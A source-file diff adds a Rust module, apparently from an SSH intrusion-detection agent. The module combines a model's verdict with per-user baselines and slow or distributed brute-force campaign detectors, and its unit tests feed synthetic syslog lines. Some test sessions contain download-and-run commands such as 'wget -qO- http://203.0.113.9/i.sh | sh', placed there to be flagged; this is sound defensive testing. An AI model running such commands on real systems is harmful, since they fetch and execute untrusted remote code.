@@ -1,0 +1,590 @@
+//! Detection beyond the model: the per-entity [`baselines`](crate::baseline)
+//! and the [`campaign`](crate::campaign) detectors, joined to one observation
+//! at a time. [`crate::engine::Engine`] calls them in the one right order
+//! (attempts up to an observation's end, then assess, score, judge); nothing
+//! else should.
+//!
+//! The final verdict is the model's, raised to Suspicious (never lowered)
+//! when the baselines or a campaign say so: a risky command the user never
+//! ran together with a new network, a rare hour or an unknown user; a login
+//! or a source that belongs to a detected brute-force campaign. Only sessions
+//! whose final verdict is Normal, from sources in no campaign, are learnt.
+
+use std::path::Path;
+
+use bfp_common::schema::AGENT_FEATURE_COUNT;
+use bfp_common::Verdict;
+use bfp_logs::analyze::{Observation, RecordKind};
+use bfp_logs::source::{DeviceStats, SourceStats};
+use bfp_logs::AuthAttempt;
+use serde::{Deserialize, Serialize};
+
+use crate::baseline::{BaselineConfig, Baselines, Novelty, SessionFacts};
+use crate::campaign::{CampaignAlert, CampaignConfig, CampaignDetector, CampaignKind};
+use crate::error::Result;
+use crate::features::{self, SourceContext};
+
+/// Distributed campaigns remembered, to mark the analyzer's device windows.
+const RECENT_CAMPAIGNS: usize = 16;
+
+/// Configuration of the detectors (a section of the agent's config).
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct DetectConfig {
+    /// Per-user and per-device baselines. Defaults: see [`BaselineConfig`].
+    pub baseline: BaselineConfig,
+    /// Slow and distributed brute force. Defaults: see [`CampaignConfig`].
+    pub campaign: CampaignConfig,
+}
+
+/// The final word on one observation.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct Judgement {
+    /// The model's verdict, or Suspicious when the detectors raised it.
+    pub suspicious: bool,
+    /// Probability of the predicted class, in [0.5, 1]. When the detectors
+    /// raised a Normal verdict, this is the model's own probability of
+    /// Suspicious (floored at 0.5): a rule, not the model, decided.
+    pub confidence: f32,
+    /// The detectors raised the model's Normal to Suspicious.
+    pub escalated: bool,
+    /// The detectors' reasons, to put before the model's.
+    pub reasons: Vec<String>,
+    /// The session's novelty against its user's baseline (sessions only).
+    pub novelty: Option<Novelty>,
+    /// The campaign the source belongs to, if any.
+    pub campaign: Option<CampaignKind>,
+    /// The session was learnt into its user's baseline.
+    pub learnt: bool,
+}
+
+/// What the detectors know of one observation before the model scores it:
+/// its novelty against the user's baseline, its source context, and the two
+/// as the schema-2 feature vector ([`features::vector`]).
+#[derive(Debug, Clone, PartialEq)]
+pub struct Assessment {
+    /// The session's novelty (sessions with a user only).
+    pub novelty: Option<Novelty>,
+    /// What the device holds against the observation's address.
+    pub context: SourceContext,
+    /// The schema-2 feature vector.
+    pub features: [f32; AGENT_FEATURE_COUNT],
+    /// A source or device window rather than a session: its duration and
+    /// failures are the window's (reasons word them so).
+    pub window: bool,
+}
+
+/// Which session-level rules may raise a session's verdict (source- and
+/// device-level campaign alerts are always raised).
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum SessionRules {
+    /// All of them: a login from a campaign's address; a risky command the
+    /// user never ran with a new network, a rare hour or an unknown user; an
+    /// account arriving from network after network. For a schema-1 model,
+    /// which sees none of this.
+    #[default]
+    All,
+    /// Only the account arriving from network after network within a day
+    /// (what a schema-2 model still misses on the honeypot's logs; the
+    /// others it sees as features, and on top of it they only added false
+    /// positives: see docs/detection.md).
+    AccountChurn,
+    /// None: the model's verdict stands for sessions.
+    Off,
+}
+
+/// Baselines and campaign detectors of one device.
+#[derive(Debug, Clone)]
+pub struct Detector {
+    baselines: Baselines,
+    campaigns: CampaignDetector,
+    /// Start and end of recent distributed campaigns.
+    recent: Vec<(i64, i64)>,
+    /// Sessions learnt since start (tells when the baselines need saving).
+    learnt: u64,
+    /// See [`Detector::set_session_rules`].
+    session_rules: SessionRules,
+}
+
+impl Detector {
+    /// Fresh detectors.
+    pub fn new(config: DetectConfig) -> Self {
+        Detector::with_baselines(Baselines::new(config.baseline), config.campaign)
+    }
+
+    /// Detectors around baselines loaded from a state file.
+    pub fn with_baselines(baselines: Baselines, campaign: CampaignConfig) -> Self {
+        Detector {
+            baselines,
+            campaigns: CampaignDetector::new(campaign),
+            recent: Vec::new(),
+            learnt: 0,
+            session_rules: SessionRules::All,
+        }
+    }
+
+    /// Loads the baselines from `path` (see [`Baselines::load_or_fresh`]):
+    /// a missing file is a first start; an unreadable one is reported beside
+    /// fresh baselines, never a crash.
+    pub fn load_or_fresh(path: &Path, config: DetectConfig) -> (Self, Option<crate::Error>) {
+        let (baselines, err) = Baselines::load_or_fresh(path, config.baseline);
+        (Detector::with_baselines(baselines, config.campaign), err)
+    }
+
+    /// Saves the baselines atomically (campaign windows are not persisted:
+    /// after a restart they refill from the log lines that follow).
+    pub fn save(&self, path: &Path) -> Result<()> {
+        self.baselines.save(path)
+    }
+
+    /// Sessions learnt since this detector was made: when it moved, the
+    /// baselines changed and are worth saving.
+    pub fn learnt(&self) -> u64 {
+        self.learnt
+    }
+
+    /// The baselines.
+    pub fn baselines(&self) -> &Baselines {
+        &self.baselines
+    }
+
+    /// The campaign detectors.
+    pub fn campaigns(&self) -> &CampaignDetector {
+        &self.campaigns
+    }
+
+    /// Feeds the analyzer's authentication attempts (in log order) to the
+    /// campaign detectors and the device's failure and login rates. Returns
+    /// the campaigns detected.
+    pub fn observe_attempts(&mut self, attempts: &[AuthAttempt]) -> Vec<CampaignAlert> {
+        for a in attempts {
+            self.campaigns.observe(a);
+            if a.success {
+                self.baselines.observe_login(a.at);
+            } else {
+                self.baselines.observe_failures(a.at, a.count.max(1));
+            }
+        }
+        let alerts = self.campaigns.drain_alerts();
+        for a in alerts.iter().filter(|a| a.kind == CampaignKind::DistributedBruteForce) {
+            if self.recent.len() == RECENT_CAMPAIGNS {
+                self.recent.remove(0);
+            }
+            self.recent.push((a.start, a.end));
+        }
+        alerts
+    }
+
+    /// Feeds attempts from lines re-read after a restart (already reported
+    /// before it): they rebuild the campaign windows, which are not
+    /// persisted, but raise no alert and are not counted again in the
+    /// device's rates, which are.
+    pub fn replay_attempts(&mut self, attempts: &[AuthAttempt]) {
+        for a in attempts {
+            self.campaigns.observe(a);
+        }
+        for a in self.campaigns.drain_alerts() {
+            if a.kind == CampaignKind::DistributedBruteForce {
+                self.recent.push((a.start, a.end));
+                if self.recent.len() > RECENT_CAMPAIGNS {
+                    self.recent.remove(0);
+                }
+            }
+        }
+    }
+
+    /// The novelty and source context of one observation, and its schema-2
+    /// feature vector: what the agent's model scores. Call after feeding the
+    /// attempts up to the observation's end ([`Detector::observe_attempts`]),
+    /// before [`Detector::judge_assessed`]. Learns nothing.
+    pub fn assess(&self, obs: &Observation) -> Assessment {
+        let novelty = match (obs.kind, obs.user.as_deref()) {
+            (RecordKind::Session, Some(user)) => {
+                let facts =
+                    SessionFacts::new(user, obs.source_ip, obs.start, &obs.fingerprint, &obs.commands, obs.open);
+                Some(self.baselines.novelty(&facts))
+            }
+            _ => None,
+        };
+        let context = match obs.source_ip {
+            Some(ip) => SourceContext::new(
+                &self.campaigns.source_summary(ip),
+                self.campaigns.failing_sources_last_hour(),
+                self.baselines.has_history().then(|| self.baselines.users_from_network(ip)),
+            ),
+            None => SourceContext {
+                device_failing_sources: self.campaigns.failing_sources_last_hour(),
+                ..SourceContext::default()
+            },
+        };
+        let features = features::vector(&obs.fingerprint, novelty.as_ref(), &context);
+        Assessment { novelty, context, features, window: obs.kind != RecordKind::Session }
+    }
+
+    /// Which session-level rules may raise a session's verdict. All by
+    /// default, for a schema-1 model that cannot see novelty; the agent
+    /// with its schema-2 model keeps only [`SessionRules::AccountChurn`]
+    /// (see docs/detection.md for the measurement).
+    pub fn set_session_rules(&mut self, rules: SessionRules) {
+        self.session_rules = rules;
+    }
+
+    /// Judges one observation given the model's verdict, and learns it into
+    /// the user's baseline when the final verdict is Normal.
+    pub fn judge(&mut self, obs: &Observation, verdict: &Verdict) -> Judgement {
+        let assessment = self.assess(obs);
+        self.judge_assessed(obs, verdict, assessment)
+    }
+
+    /// As [`Detector::judge`], with the assessment the model scored.
+    pub fn judge_assessed(&mut self, obs: &Observation, verdict: &Verdict, assessment: Assessment) -> Judgement {
+        let mut reasons = Vec::new();
+        let campaign = obs.source_ip.and_then(|ip| self.campaigns.campaign_of(ip));
+        let mut escalate = false;
+        let novelty = assessment.novelty;
+        match obs.kind {
+            RecordKind::Session => {
+                if let (Some(kind), Some(ip)) = (campaign, obs.source_ip) {
+                    escalate = self.session_rules == SessionRules::All;
+                    reasons.push(format!("login from {ip}, which ran a {} against this device", campaign_words(kind)));
+                }
+                if let Some(n) = &novelty {
+                    escalate |= match self.session_rules {
+                        SessionRules::All => n.escalates(),
+                        SessionRules::AccountChurn => n.network_churn,
+                        SessionRules::Off => false,
+                    };
+                    reasons.extend(n.reasons.iter().cloned());
+                }
+            }
+            RecordKind::Source => {
+                if let (Some(kind), Some(ip)) = (campaign, obs.source_ip) {
+                    escalate = true;
+                    reasons.push(format!("{ip} is part of a {} against this device", campaign_words(kind)));
+                }
+            }
+            RecordKind::Device => {
+                let end = obs.end.unwrap_or(i64::MAX);
+                if let Some(&(start, _)) = self.recent.iter().find(|(s, e)| *s <= end && *e >= obs.start) {
+                    escalate = true;
+                    let when = start - obs.start;
+                    reasons.push(format!(
+                        "a distributed brute force hit this device {} min into this window",
+                        when.max(0) / 60
+                    ));
+                }
+            }
+        }
+        let escalated = escalate && !verdict.suspicious;
+        let suspicious = verdict.suspicious || escalate;
+        let confidence = if escalated {
+            // The model's probability of Suspicious, floored at 0.5.
+            (1.0 - verdict.confidence).max(0.5)
+        } else {
+            verdict.confidence
+        };
+        let mut learnt = false;
+        if obs.kind == RecordKind::Session && campaign.is_none() {
+            if let Some(user) = obs.user.as_deref() {
+                let facts =
+                    SessionFacts::new(user, obs.source_ip, obs.start, &obs.fingerprint, &obs.commands, obs.open);
+                learnt = self.baselines.learn(&facts, suspicious);
+                self.learnt += u64::from(learnt);
+            }
+        }
+        Judgement { suspicious, confidence, escalated, reasons, novelty, campaign, learnt }
+    }
+
+    /// A campaign alert as an observation (kind `source` for a slow brute
+    /// force, `device` for a distributed one), so it is reported, forwarded
+    /// and stored like the analyzer's own. [`Detector::judge`] marks it
+    /// Suspicious; [`CampaignAlert::reasons`] says why.
+    pub fn alert_observation(alert: &CampaignAlert, utc_offset_secs: i32) -> Observation {
+        let fingerprint = alert.fingerprint(utc_offset_secs);
+        let hours = ((alert.end - alert.start).max(60) as f32) / 3600.0;
+        let per_hour = alert.failed_logins as f32 / hours;
+        let (kind, source, device) = match alert.kind {
+            CampaignKind::SlowBruteForce => (
+                RecordKind::Source,
+                Some(SourceStats {
+                    failed_logins: alert.failed_logins,
+                    invalid_user_attempts: alert.invalid_user_attempts,
+                    distinct_users: alert.distinct_users,
+                    users_sample: Vec::new(),
+                    successes: 0,
+                    success_after_failures: false,
+                    attempts_per_hour: per_hour,
+                    connections: 0,
+                    probes: 0,
+                    protocols: vec![alert.protocol],
+                }),
+                None,
+            ),
+            CampaignKind::DistributedBruteForce => (
+                RecordKind::Device,
+                None,
+                Some(DeviceStats {
+                    failed_logins: alert.failed_logins,
+                    failing_sources: alert.sources,
+                    quiet_sources: 0,
+                    distinct_users: alert.distinct_users,
+                    successes: 0,
+                    successes_after_failures: 0,
+                    attempts_per_hour: per_hour,
+                }),
+            ),
+        };
+        Observation {
+            kind,
+            source_ip: alert.source_ip,
+            user: None,
+            start: alert.start,
+            end: Some(alert.end),
+            open: false,
+            fingerprint,
+            commands: Vec::new(),
+            session: None,
+            source,
+            device,
+        }
+    }
+}
+
+fn campaign_words(kind: CampaignKind) -> &'static str {
+    match kind {
+        CampaignKind::SlowBruteForce => "slow brute force",
+        CampaignKind::DistributedBruteForce => "distributed brute force",
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use bfp_common::schema::PREDICT_FEATURE_COUNT as FEATURE_COUNT;
+    use bfp_logs::analyze::{Analyzer, AnalyzerConfig, LogFormat};
+    use bfp_testkit::{alice_history, sshd_session};
+
+    fn verdict(suspicious: bool, confidence: f32) -> Verdict {
+        Verdict::flat(suspicious, confidence, FEATURE_COUNT)
+    }
+
+    /// Runs `lines` through the analyzer and the detector, as the agent
+    /// does, with a model that always says Normal (so every Suspicious below
+    /// comes from the detectors).
+    fn run(detector: &mut Detector, lines: &[String]) -> (Vec<CampaignAlert>, Vec<(Observation, Judgement)>) {
+        let config = AnalyzerConfig { reference_time: Some(1_796_083_200), ..AnalyzerConfig::default() };
+        let mut analyzer = Analyzer::new(config);
+        analyzer.record_auth_attempts();
+        let mut alerts = Vec::new();
+        let mut judged = Vec::new();
+        let mut take = |analyzer: &mut Analyzer, obs: Vec<Observation>, detector: &mut Detector| {
+            alerts.extend(detector.observe_attempts(&analyzer.drain_auth_attempts()));
+            for o in obs {
+                let j = detector.judge(&o, &verdict(false, 0.8));
+                judged.push((o, j));
+            }
+        };
+        for line in lines {
+            analyzer.feed_line(line, LogFormat::Syslog);
+            let obs = analyzer.drain_ready();
+            take(&mut analyzer, obs, detector);
+        }
+        let obs = analyzer.finish();
+        take(&mut analyzer, obs, detector);
+        (alerts, judged)
+    }
+
+    #[test]
+    fn assess_builds_the_schema_two_vector_from_novelty_and_the_source_context() {
+        let mut d = Detector::new(DetectConfig::default());
+        let mut lines = alice_history();
+        // A stranger tries three accounts from one address, then gets into alice's.
+        for (i, user) in ["admin", "oracle", "alice"].iter().enumerate() {
+            lines.push(format!(
+                "Nov 16 03:00:0{i} host sshd[3000]: Failed password for {user} from 203.0.113.50 port 1 ssh2"
+            ));
+        }
+        lines.extend(sshd_session(16, (3, 0), 3001, "alice", "203.0.113.50", 0, &["/usr/bin/wget http://x/a"]));
+        let config = AnalyzerConfig { reference_time: Some(1_796_083_200), ..AnalyzerConfig::default() };
+        let mut analyzer = Analyzer::new(config);
+        analyzer.record_auth_attempts();
+        let mut last = None;
+        for line in &lines {
+            analyzer.feed_line(line, LogFormat::Syslog);
+            d.observe_attempts(&analyzer.drain_auth_attempts());
+            for o in analyzer.drain_ready() {
+                let a = d.assess(&o);
+                if o.kind == RecordKind::Session {
+                    d.judge_assessed(&o, &verdict(false, 0.9), a.clone());
+                    last = Some((o, a));
+                }
+            }
+        }
+        let (obs, a) = last.unwrap();
+        assert_eq!(obs.source_ip, Some("203.0.113.50".parse().unwrap()));
+        assert_eq!(a.features, features::vector(&obs.fingerprint, a.novelty.as_ref(), &a.context));
+        // alice's own failure, followed by her success, is forgiven as a typo.
+        assert_eq!(a.context.failures_last_day, 2);
+        assert_eq!(a.context.users_tried, 3);
+        assert_eq!(a.context.failure_hours, 1);
+        assert!(!a.context.in_campaign);
+        assert_eq!(a.context.known_users_from_network, Some(0), "no user came from 203.0.113.0/24");
+        let n = a.novelty.as_ref().unwrap();
+        assert!(n.new_network_for_user && n.rare_hour_for_user && n.first_risky_command);
+        let at =
+            |name: &str| a.features[bfp_common::schema::AGENT_FEATURE_NAMES.iter().position(|n| *n == name).unwrap()];
+        assert_eq!((at("new_network_for_user"), at("source_users_tried")), (1.0, 3.0));
+    }
+
+    #[test]
+    fn from_log_lines_a_mistyping_user_from_home_stays_normal() {
+        let mut d = Detector::new(DetectConfig::default());
+        let mut lines = alice_history();
+        lines.extend(sshd_session(16, (10, 30), 2000, "alice", "198.51.100.99", 2, &["/bin/systemctl restart nginx"]));
+        let (alerts, judged) = run(&mut d, &lines);
+        assert!(alerts.is_empty());
+        let sessions: Vec<_> = judged.iter().filter(|(o, _)| o.kind == RecordKind::Session).collect();
+        assert_eq!(sessions.len(), 15);
+        let (obs, last) = sessions.last().unwrap();
+        assert_eq!(obs.fingerprint.failed_logins, 2);
+        assert!(!last.suspicious && !last.escalated && last.reasons.is_empty(), "{last:?}");
+        assert!(last.learnt);
+        assert_eq!(d.baselines().sessions_of("alice"), 15);
+    }
+
+    #[test]
+    fn from_log_lines_a_new_network_at_three_with_wget_pipe_sh_is_suspicious() {
+        let mut d = Detector::new(DetectConfig::default());
+        let mut lines = alice_history();
+        lines.extend(sshd_session(
+            16,
+            (3, 0),
+            2001,
+            "alice",
+            "203.0.113.50",
+            0,
+            &["/usr/bin/wget -qO- http://203.0.113.9/i.sh | sh"],
+        ));
+        let (_, judged) = run(&mut d, &lines);
+        let (_, last) = judged.iter().rev().find(|(o, _)| o.kind == RecordKind::Session).unwrap();
+        assert!(last.suspicious && last.escalated, "{last:?}");
+        assert_eq!(last.confidence, 0.5, "the model said Normal: a rule decided");
+        let n = last.novelty.as_ref().unwrap();
+        assert!(n.new_network_for_user && n.rare_hour_for_user && n.first_risky_command);
+        let all = last.reasons.join(" | ");
+        assert!(all.contains("first login by alice from 203.0.113.0/24"), "{all}");
+        assert!(all.contains("alice never logs in at 03:00"), "{all}");
+        assert!(all.contains("piped a wget download into a shell, a first for alice"), "{all}");
+        assert!(!last.learnt, "a suspicious session is not learnt");
+        assert_eq!(d.baselines().sessions_of("alice"), 14);
+    }
+
+    #[test]
+    fn with_only_the_account_churn_rule_a_risky_first_is_left_to_the_model() {
+        let mut d = Detector::new(DetectConfig::default());
+        d.set_session_rules(SessionRules::AccountChurn);
+        let mut lines = alice_history();
+        lines.extend(sshd_session(
+            16,
+            (3, 0),
+            2001,
+            "alice",
+            "203.0.113.50",
+            0,
+            &["/usr/bin/wget -qO- http://x/i.sh | sh"],
+        ));
+        let (_, judged) = run(&mut d, &lines);
+        let (_, last) = judged.iter().rev().find(|(o, _)| o.kind == RecordKind::Session).unwrap();
+        assert!(last.novelty.as_ref().unwrap().escalates(), "the novelty is there, as features");
+        assert!(!last.suspicious && !last.escalated, "but no rule raises it: {last:?}");
+        d.set_session_rules(SessionRules::Off);
+        assert_eq!(d.session_rules, SessionRules::Off);
+    }
+
+    #[test]
+    fn from_log_lines_a_slow_brute_force_then_a_successful_login_is_caught() {
+        let mut d = Detector::new(DetectConfig::default());
+        let mut lines = Vec::new();
+        let users = ["root", "admin", "pi", "ubnt", "oracle"];
+        for hour in 0..24u32 {
+            for (k, minute) in [7u32, 37].into_iter().enumerate() {
+                let user = users[(hour as usize * 2 + k) % users.len()];
+                lines.push(format!(
+                    "Nov 20 {hour:02}:{minute:02}:11 host sshd[{}]: Failed password for invalid user {user} from 203.0.113.7 port 4{hour:02}{minute:02} ssh2",
+                    3000 + hour * 2 + k as u32
+                ));
+            }
+        }
+        lines.extend(sshd_session(
+            21,
+            (2, 0),
+            4000,
+            "oracle",
+            "203.0.113.7",
+            0,
+            &["/usr/bin/wget http://203.0.113.9/x"],
+        ));
+        let (alerts, judged) = run(&mut d, &lines);
+        assert_eq!(alerts.len(), 1, "{alerts:?}");
+        assert_eq!(alerts[0].kind, CampaignKind::SlowBruteForce);
+        assert_eq!(alerts[0].source_ip, Some("203.0.113.7".parse().unwrap()));
+        let alert_obs = Detector::alert_observation(&alerts[0], 0);
+        assert_eq!(alert_obs.kind, RecordKind::Source);
+        assert_eq!(alert_obs.fingerprint.failed_logins, 10);
+        let j = d.judge(&alert_obs, &verdict(false, 0.9));
+        assert!(j.suspicious && j.escalated);
+        // The analyzer's own source window for the address is Suspicious too.
+        let (_, src) = judged.iter().find(|(o, _)| o.kind == RecordKind::Source).unwrap();
+        assert!(src.suspicious && src.campaign == Some(CampaignKind::SlowBruteForce), "{src:?}");
+        // And the login that finally got in.
+        let (_, login) = judged.iter().find(|(o, _)| o.kind == RecordKind::Session).unwrap();
+        assert!(login.suspicious, "{login:?}");
+        assert!(login.reasons[0].contains("login from 203.0.113.7, which ran a slow brute force"), "{login:?}");
+        assert!(!login.learnt);
+    }
+
+    #[test]
+    fn from_log_lines_two_hundred_addresses_once_each_are_one_campaign() {
+        let mut d = Detector::new(DetectConfig::default());
+        let mut lines = Vec::new();
+        for i in 0..200u32 {
+            let secs = i * 17;
+            lines.push(format!(
+                "Nov 22 14:{:02}:{:02} host sshd[{}]: Failed password for root from 198.18.{}.{} port 5{i:04} ssh2",
+                secs / 60,
+                secs % 60,
+                5000 + i,
+                i / 100,
+                i % 100 + 1
+            ));
+        }
+        let (alerts, judged) = run(&mut d, &lines);
+        assert_eq!(alerts.len(), 1, "{alerts:?}");
+        assert_eq!(alerts[0].kind, CampaignKind::DistributedBruteForce);
+        assert_eq!(d.campaigns().active_campaign().unwrap().sources, 200);
+        let obs = Detector::alert_observation(&alerts[0], 0);
+        assert_eq!((obs.kind, obs.device.as_ref().unwrap().failing_sources), (RecordKind::Device, 50));
+        // The analyzer's device window is marked, as is each source's.
+        let (_, dev) = judged.iter().find(|(o, _)| o.kind == RecordKind::Device).unwrap();
+        assert!(dev.suspicious && dev.reasons[0].starts_with("a distributed brute force hit this device"), "{dev:?}");
+        let flagged = judged.iter().filter(|(o, j)| o.kind == RecordKind::Source && j.suspicious).count();
+        assert_eq!(flagged, 200);
+    }
+
+    #[test]
+    fn detector_state_survives_a_restart() {
+        let mut d = Detector::new(DetectConfig::default());
+        run(&mut d, &alice_history());
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("baselines.bin");
+        d.save(&path).unwrap();
+        let (again, err) = Detector::load_or_fresh(&path, DetectConfig::default());
+        assert!(err.is_none());
+        assert_eq!(again.baselines().sessions_of("alice"), 14);
+        std::fs::write(&path, b"BFPB\xff\xff").unwrap();
+        let (fresh, err) = Detector::load_or_fresh(&path, DetectConfig::default());
+        assert!(err.is_some());
+        assert_eq!(fresh.baselines().user_count(), 0);
+    }
+}
